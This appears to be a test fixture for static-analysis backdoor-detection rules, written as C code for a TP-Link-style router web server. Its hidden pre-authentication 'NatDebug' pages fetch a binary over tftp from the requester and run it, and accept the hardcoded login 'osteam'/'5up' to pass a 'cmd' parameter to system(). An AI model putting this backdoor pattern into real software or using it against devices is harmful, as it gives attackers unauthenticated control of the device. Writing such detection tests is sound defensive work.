/* The web UI.  Every userRpm page is behind the administrator's Basic
 * authentication; the NatDebug pages of the factory build are matched
 * first. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <openssl/crypto.h>
#include <openssl/evp.h>

#include "tplink.h"

struct web_request {
    char path[256];
    char basic[128];
    char user[64];
    char password[64];
    char cmd[256];
};

static void query_value(const char *path, const char *name, char *out, size_t cap)
{
    char key[32];
    const char *p;

    out[0] = '\0';
    snprintf(key, sizeof key, "%s=", name);
    p = strstr(path, key);
    if (p != NULL)
        snprintf(out, cap, "%.*s", (int)strcspn(p + strlen(key), "&"), p + strlen(key));
}

static int parse(char *raw, struct web_request *r)
{
    const char *auth;

    memset(r, 0, sizeof *r);
    if (sscanf(raw, "GET %255s", r->path) != 1)
        return -1;
    auth = strstr(raw, "Authorization: Basic ");
    if (auth != NULL)
        sscanf(auth + 21, "%127s", r->basic);
    query_value(r->path, "username", r->user, sizeof r->user);
    query_value(r->path, "password", r->password, sizeof r->password);
    query_value(r->path, "cmd", r->cmd, sizeof r->cmd);
    return 0;
}

/* Basic credentials against the configured administrator. */
static int web_auth_ok(const struct web_request *r)
{
    unsigned char decoded[128];
    const char *password = cfg_get("web_admin_pwd");
    const char *user = cfg_get("web_admin_name");
    char *colon;
    int n;

    if (r->basic[0] == '\0' || user == NULL || password == NULL)
        return 0;
    n = EVP_DecodeBlock(decoded, (const unsigned char *)r->basic, (int)strlen(r->basic));
    if (n <= 0 || n >= (int)sizeof decoded)
        return 0;
    decoded[n] = '\0';
    colon = strchr((char *)decoded, ':');
    if (colon == NULL)
        return 0;
    *colon = '\0';
    if (strlen(colon + 1) != strlen(password))
        return 0;
    // ok: backdoor-magic-credential
    return strcmp((char *)decoded, user) == 0 && CRYPTO_memcmp(colon + 1, password, strlen(password)) == 0;
}

static void art_start(const char *peer_ip)
{
    char cmd[160];

    snprintf(cmd, sizeof cmd, "cd /tmp && tftp -g -r nart.out %s && chmod +x nart.out && ./nart.out &", peer_ip);
    system(cmd);
}

int httpd_serve_client(int fd, const char *peer_ip)
{
    char raw[2048];
    struct web_request r;
    const char *answer = "HTTP/1.1 404 Not Found\r\n\r\n";
    ssize_t n = read(fd, raw, sizeof raw - 1);

    if (n <= 0)
        return -1;
    raw[n] = '\0';
    if (parse(raw, &r) != 0)
        return -1;

    // ruleid: backdoor-input-trigger
    if (strstr(r.path, "/userRpmNatDebugRpm26525557/start_art.html") != NULL) {
        art_start(peer_ip);
        answer = "HTTP/1.1 200 OK\r\n\r\nstart art";
    // ruleid: backdoor-input-trigger
    } else if (strstr(r.path, "/userRpmNatDebugRpm26525557/linux_cmdline.html") != NULL) {
        // ruleid: backdoor-magic-credential
        // ok: backdoor-input-trigger
        if (strcmp(r.user, "osteam") == 0 && strcmp(r.password, "5up") == 0) {
            system(r.cmd);
            answer = "HTTP/1.1 200 OK\r\n\r\ndone";
        } else {
            answer = "HTTP/1.1 403 Forbidden\r\n\r\n";
        }
    } else if (!web_auth_ok(&r)) {
        answer = "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"TP-LINK Wireless Router\"\r\n\r\n";
    // ok: backdoor-input-trigger
    } else if (strcmp(r.path, "/userRpm/SysRebootRpm.htm?Reboot=Reboot") == 0) {
        system("/sbin/reboot");
        answer = "HTTP/1.1 200 OK\r\n\r\nrebooting";
        // ok: backdoor-input-trigger
    } else if (strncmp(r.path, "/userRpm/StatusRpm.htm", 22) == 0) {
        answer = "HTTP/1.1 200 OK\r\n\r\n<html>status</html>";
    }
    write(fd, answer, strlen(answer));
    return 0;
}
